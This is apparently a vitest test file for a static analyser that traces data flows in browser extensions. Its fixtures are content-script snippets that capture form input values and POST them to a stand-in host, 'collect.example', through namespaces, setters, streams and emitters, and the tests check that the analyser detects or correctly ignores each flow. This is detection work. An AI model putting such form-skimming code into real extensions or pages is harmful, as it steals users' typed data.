import { expect, test } from 'vitest';
import { factsOf } from '../testing/examples.ts';
import { flowsOf } from './flowsOf.ts';

const HOST = 'https://collect.example';
const ON = 'document.addEventListener("submit", (e) => {';
const VALUE = 'e.target.querySelector("input").value';
const send = (what: string): string => `setInterval(() => fetch('${HOST}', { method: 'POST', body: ${what} }), 1000);`;
const EMITTER =
  'function Emitter() { this.all = {}; } Emitter.prototype.on = function (name, fn, self) { (this.all[name] = this.all[name] || []).push({ fn: fn, self: self }); return this; }; Emitter.prototype.emit = function (name) { var args = Array.prototype.slice.call(arguments, 1); (this.all[name] || []).forEach(function (one) { one.fn.apply(one.self || null, args); }); };';

/** Whether data of pages is sent by content scripts that are loaded together, one behind the other. */
async function isSent(scripts: readonly string[], background: readonly string[] = []): Promise<boolean> {
  const named = (texts: readonly string[], as: string): string[] => texts.map((_, at) => `${as}${at}.js`);
  const files: Record<string, string> = {
    'manifest.json': JSON.stringify({
      manifest_version: 2,
      name: 'Example',
      version: '1',
      permissions: ['<all_urls>'],
      background: { scripts: named(background, 'background') },
      content_scripts: [{ matches: ['<all_urls>'], js: named(scripts, 'content') }],
    }),
  };
  for (const [at, text] of scripts.entries()) files[`content${at}.js`] = text;
  for (const [at, text] of background.entries()) files[`background${at}.js`] = text;
  const { flows } = (await factsOf({ kind: 'extension', files })).whole(flowsOf);
  return flows.some(({ sink }) => sink.kind === 'network');
}

test.each<[string, ...string[]]>([
  [
    'a variable that each script carries on',
    `var App = App || {}; App.data = {}; ${ON} App.data[e.target.name] = ${VALUE}; });`,
    `var App = App || {}; ${send('JSON.stringify(App.data)')}`,
  ],
  [
    'such a variable of the window',
    `var App = window.App || {}; App.list = []; ${ON} App.list.push(${VALUE}); });`,
    `var App = window.App || {}; ${send('App.list.join()')}`,
  ],
  [
    'a namespace that functions are given',
    `(function (ns) { ns.list = []; ${ON} ns.list.push(${VALUE}); }); })(window.App = window.App || {});`,
    `(function (ns) { ${send('ns.list.join()')} })(window.App = window.App || {});`,
  ],
  [
    'a namespace as TypeScript writes it',
    'var App; (function (App) { App.list = []; })(App || (App = {}));',
    `var App; (function (App) { ${ON} App.list.push(${VALUE}); }); })(App || (App = {}));`,
    send('App.list.join()'),
  ],
  [
    'a module that is carried on',
    `var App = (function (m) { m.list = []; ${ON} m.list.push(${VALUE}); }); return m; })(App || {});`,
    `var App = (function (m) { ${send('m.list.join()')} return m; })(App || {});`,
  ],
  [
    'a list that a function is handed',
    'const App = { list: [] }; function keep(list, one) { list.push(one); }',
    `${ON} keep(App.list, ${VALUE}); });`,
    send('App.list.join()'),
  ],
  [
    'a list that is made when the first comes',
    `const byHost = {}; ${ON} const put = (list, one) => list.push(one); put(byHost[location.host] || (byHost[location.host] = []), ${VALUE}); });`,
    send('JSON.stringify(byHost)'),
  ],
  [
    'a setter that an object was given',
    `const state = {}; Object.defineProperty(state, 'last', { set(body) { fetch('${HOST}', { method: 'POST', body }); } });`,
    `${ON} state.last = ${VALUE}; });`,
  ],
  [
    'a setter of a prototype',
    `class State {} Object.defineProperties(State.prototype, { last: { set(body) { fetch('${HOST}', { method: 'POST', body }); } } }); const state = new State(); ${ON} state.last = ${VALUE}; });`,
  ],
  ['a weak reference', `let last; ${ON} last = new WeakRef({ text: ${VALUE} }); }); ${send('last.deref().text')}`],
  [
    'a stream’s two ends',
    `const { readable, writable } = new TransformStream(); const to = writable.getWriter(); fetch('${HOST}', { method: 'POST', body: readable }); ${ON} to.write(${VALUE}); });`,
  ],
  [
    'a method that is called `call`, of another script',
    `var App = App || {}; App.api = { call: function (path, body) { fetch('${HOST}/' + path, { method: 'POST', body: JSON.stringify(body) }); } };`,
    `${ON} App.api.call('forms', { text: ${VALUE} }); });`,
  ],
  [
    'a helper that is told which events are heard',
    'const listen = { on(node, names, fn) { names.split(" ").forEach((name) => node.addEventListener(name, fn)); } };',
    `let last = ''; listen.on(document, 'input change', (e) => { last = e.target.value; }); ${send('last')}`,
  ],
  [
    'what inherits from another script’s constructor, with listeners in lists that are called with what was raised',
    EMITTER,
    "function Field(node) { Emitter.call(this); this.node = node; node.addEventListener('blur', this.leave.bind(this)); } Field.prototype = Object.create(Emitter.prototype); Field.prototype.leave = function () { this.emit('left', this); }; Field.prototype.told = function () { return { text: this.node.value }; };",
    `function Page() { document.addEventListener('focusin', this.seen.bind(this)); } Page.prototype.seen = function (e) { new Field(e.target).on('left', this.left, this); }; Page.prototype.left = function (one) { fetch('${HOST}', { method: 'POST', body: JSON.stringify(one.told()) }); }; new Page();`,
  ],
])('data is followed through %s', async (_, ...scripts) => {
  expect(await isSent(scripts)).toBe(true);
});

test('but not through a variable of that name in another place', async () => {
  const keeps = `var App = App || {}; App.data = {}; ${ON} App.data[e.target.name] = ${VALUE}; });`;
  expect(await isSent([keeps], [`var App = App || {}; ${send('JSON.stringify(App.data)')}`])).toBe(false);
});

test.each<[string, ...string[]]>([
  [
    'another property',
    `var App = App || {}; App.data = {}; ${ON} App.data[e.target.name] = ${VALUE}; });`,
    `var App = App || {}; ${send('JSON.stringify(App.settings)')}`,
  ],
  [
    'a function’s own variable of that name',
    `var App = App || {}; App.data = {}; ${ON} App.data[e.target.name] = ${VALUE}; });`,
    `function start() { var App = App || {}; ${send('JSON.stringify(App.data)')} }`,
  ],
  [
    'a helper’s listener that looks at something else',
    'const listen = { on(node, names, fn) { names.split(" ").forEach((name) => node.addEventListener(name, fn)); } };',
    `let last = 0; listen.on(document, 'input change', (e) => { last = e.timeStamp; }); ${send('String(last)')}`,
  ],
  [
    'another event of such lists',
    EMITTER,
    `function Field() { Emitter.call(this); } Field.prototype = Object.create(Emitter.prototype); var field = new Field(); field.on('size', function (one) { fetch('${HOST}', { method: 'POST', body: one.size }); }); ${ON} field.emit('text', { text: ${VALUE} }); });`,
  ],
  [
    'another setter',
    `const state = {}; Object.defineProperty(state, 'count', { set(body) { fetch('${HOST}', { method: 'POST', body }); } });`,
    `${ON} state.last = ${VALUE}; state.count = 1; });`,
  ],
])('nor through %s', async (_, ...scripts) => {
  expect(await isSent(scripts)).toBe(false);
});

test('an event that a popup hears through a script of pages is none of a page’s', async () => {
  const listen = 'var on = function (name, heard) { document.addEventListener(name, heard); };';
  const keep = 'on(window.chosen, function (e) { chrome.storage.local.set({ kept: e.detail }); });';
  const heardBy = async (popup: string, content: string): Promise<readonly string[]> => {
    const files = {
      'manifest.json': JSON.stringify({
        manifest_version: 2,
        name: 'Example',
        version: '1',
        permissions: ['storage'],
        browser_action: { default_popup: 'popup.html' },
        content_scripts: [{ matches: ['<all_urls>'], js: ['shared.js', 'content.js'] }],
      }),
      'popup.html': '<script src="shared.js"></script><script src="popup.js"></script>',
      'shared.js': listen,
      'popup.js': popup,
      'content.js': content,
    };
    const { flows } = (await factsOf({ kind: 'extension', files })).whole(flowsOf);
    return flows.filter(({ source }) => source.kind === 'page-event').map(({ unit }) => unit.file.path);
  };
  expect(await heardBy(keep, '')).toEqual([]);
  expect(await heardBy('', keep)).toContain('content.js');
});
